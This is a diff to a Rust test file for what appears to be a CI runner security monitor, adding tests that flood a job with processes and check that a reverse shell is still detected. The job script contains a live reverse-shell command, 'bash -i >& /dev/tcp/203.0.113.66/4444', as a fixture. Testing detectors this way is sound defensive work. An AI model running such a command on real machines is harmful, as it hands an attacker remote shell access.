@@ -4,8 +4,9 @@
 mod life;
 
 use anyhow::{Context, Result, ensure};
-use life::{Gate, assert_gapless, assert_nothing_left, call, network};
-use portcullis_common::event::Verdict;
+use life::{Gate, assert_gapless, assert_nothing_left, call, detections, network};
+use portcullis_common::event::{DetectionType, EventKind, Verdict};
+use portcullis_common::policy::LockdownDetection;
 use portcullis_tests::job::StepKind;
 use portcullis_tests::{JobOutcome, World};
 use std::fs;
@@ -133,6 +134,63 @@ fn a_million_processes_hold_nobody_up() -> Result<()> {
     let (gate, result) = flood(&["spawn 1000000"], Duration::from_hours(1))?;
     ensure!(result.log().contains("spawn 1000000, refused 0"), "{}", result.log());
     assert_gapless(&gate.last_events()?);
+    Ok(())
+}
+
+/// A reverse shell among `number` programs that two loops execute meanwhile is found; what had no event is told.
+fn detection_in_a_flood(number: u64, patience: Duration) -> Result<String> {
+    let audit = "name: watched\negress-policy: audit\nattach:\n  - repository: octo/hello\n";
+    let gate = Gate::up(World::builder().build()?, &[("watched", audit)])?;
+    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("inputs/flood.c");
+    let copy = gate.world.directory().join("flood.c");
+    fs::copy(source, &copy)?;
+    let script = format!(
+        "set +e; f=\"$RUNNER_TEMP/flood\"; cc -O2 -o \"$f\" {}\n\
+         \"$f\" spawn {each} & a=$!; \"$f\" spawn {each} & b=$!\n\
+         sleep 0.5; (exec bash -i >& /dev/tcp/203.0.113.66/4444 0>&1) & s=$!\n\
+         wait $a $b; kill -9 $s; true",
+        copy.display(),
+        each = number / 2,
+    );
+    let running = gate.world.runner(0).begin(&gate.job(&script))?;
+    let result = running.wait_within(patience)?;
+    gate.monitor.wait_until_idle()?;
+    ensure!(
+        result.log().matches(&format!("spawn {}, refused 0", number / 2)).count() == 2,
+        "{}",
+        result.log()
+    );
+    let events = gate.last_events()?;
+    assert_gapless(&events);
+    let found = detections(&events).any(|found| {
+        found.detection == DetectionType::Lockdown(LockdownDetection::ReverseShell)
+            && found.evidence.contains("203.0.113.66:4444")
+    });
+    ensure!(found, "{}\n{}", result.log(), gate.monitor.log());
+    let recorded: u64 = events
+        .iter()
+        .map(|event| match &event.kind {
+            EventKind::Process(executed) => executed.count,
+            _ => 0,
+        })
+        .sum();
+    let report = gate.last_report()?;
+    let told = report.posture.warnings.iter().any(|text| text.contains("were lost"));
+    let told_of = format!("{recorded} of {number} programs have an event; {:#?}", report.posture);
+    ensure!(recorded >= number || told, "{told_of}");
+    Ok(told_of)
+}
+
+#[test]
+fn a_detection_in_a_flood_of_programs_is_found() -> Result<()> {
+    println!("{}", detection_in_a_flood(10_000, Duration::from_mins(2))?);
+    Ok(())
+}
+
+#[test]
+#[ignore = "takes ten minutes and more: scripts/soak runs it"]
+fn a_detection_in_a_flood_of_a_million_programs_is_found() -> Result<()> {
+    println!("{}", detection_in_a_flood(1_000_000, Duration::from_hours(1))?);
     Ok(())
 }
 
